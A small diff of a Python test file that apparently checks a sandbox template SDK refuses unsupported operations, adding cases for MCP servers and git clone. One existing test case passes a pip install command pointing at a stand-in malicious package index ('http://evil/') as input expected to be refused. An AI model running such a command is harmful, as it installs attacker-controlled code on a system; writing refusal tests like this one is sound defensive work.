@@ -136,6 +136,8 @@ def test_async_template_sdk(server):
         (lambda: Template().from_base_image().pip_install(), "named packages only"),
         (lambda: Template().from_base_image().run_cmd("pip install --index-url http://evil/ x"), "other options"),
         (lambda: Template().from_template("nope-nope"), "not found"),
+        (lambda: Template().from_template("mcp-gateway").add_mcp_server("exa"), "sandloop serves MCP itself"),
+        (lambda: Template().from_base_image().git_clone("https://github.com/e2b-dev/E2B"), "git clone cannot run"),
     ],
 )
 def test_what_cannot_be_had_is_refused_in_e2bs_words(server, template, words):
